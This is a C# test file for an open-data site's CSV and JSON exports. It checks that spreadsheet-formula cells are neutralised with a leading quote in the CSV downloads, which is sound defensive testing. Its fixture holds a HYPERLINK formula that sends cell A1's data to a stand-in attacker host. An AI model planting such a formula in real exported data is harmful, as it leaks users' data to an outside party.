using System.Globalization;
using System.Text.Json;
using CsvHelper;
using MoriokaSite.Tests.Support;

namespace MoriokaSite.Tests.Site;

/// <summary>
/// A cell Excel would run as a formula is written to the CSV downloads with a single quotation mark
/// before it, still read back as one cell; the JSON keeps the value as the data has it.
/// </summary>
public sealed class OpenDataFormulaTests : SiteCopyTests
{
    private const string Formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"詳しくはこちら\")";
    private const string Minus = "-1+2 市町が負担する事業";
    private const string At = "@SUM(A1:A9) の事業";

    public OpenDataFormulaTests()
    {
        // A formula with commas and quotation marks, written in the source CSV as Excel saves it.
        var line = _site.LineOf(ProjectRows.Path, "p001,");
        var cells = _site.Read(ProjectRows.Path).Split('\n')[line - 1].Split(',');
        cells[1] = "\"" + Formula.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        _site.ReplaceLine(ProjectRows.Path, line, string.Join(',', cells));
        ProjectRows.SetCell(_site, "p002", "事業概要", Minus);
        ProjectRows.SetCell(_site, "p003", "事業概要", At);
    }

    [Fact]
    public async Task Formula_cells_start_with_a_quotation_mark_in_every_csv_and_are_unchanged_in_the_json()
    {
        var result = await _site.BuildAsync(_out.Path);
        Assert.True(result.Succeeded, string.Join('\n', result.Diagnostics));

        foreach (var csv in new[] { "data/projects.csv", "data/fields/economic-strategy.csv", "data/towns/morioka.csv" })
        {
            var rows = ReadCsv(csv);
            Assert.Equal("'" + Formula, rows["p001"]["name"]);
            Assert.Equal("'" + Minus, rows["p002"]["summary"]);
            Assert.Equal("'" + At, rows["p003"]["summary"]);
            Assert.Equal("就業機会、起業機会創出のための人材育成事業", rows["p002"]["name"]); // Other cells as they were.
            Assert.DoesNotContain(rows.Values.SelectMany(r => r.Values), cell => cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal));
        }

        using var json = JsonDocument.Parse(File.ReadAllText(_out["data/projects.json"]));
        var projects = json.RootElement.GetProperty("projects").EnumerateArray().ToDictionary(p => p.GetProperty("id").GetString()!);
        Assert.Equal(Formula, projects["p001"].GetProperty("name").GetString());
        Assert.Equal(Minus, projects["p002"].GetProperty("summary").GetString());
        Assert.Equal(At, projects["p003"].GetProperty("summary").GetString());
    }

    [Fact]
    public async Task The_data_page_explains_the_quotation_mark()
    {
        Assert.True((await _site.BuildAsync(_out.Path)).Succeeded);
        Assert.Contains("で始まる値の前に「'」（半角の引用符）を付けています", BuiltSites.Parse(_out["data/index.html"]).QuerySelector("main")!.TextContent);
    }

    /// <summary>Each row by id, each cell by its header, read as a spreadsheet would split them.</summary>
    private Dictionary<string, Dictionary<string, string>> ReadCsv(string path)
    {
        using var reader = new StreamReader(_out[path]);
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        csv.Read();
        csv.ReadHeader();
        var rows = new Dictionary<string, Dictionary<string, string>>(StringComparer.Ordinal);
        while (csv.Read())
        {
            var row = csv.HeaderRecord!.ToDictionary(h => h, h => csv.GetField(h)!);
            rows[row["id"]] = row;
        }

        return rows;
    }
}
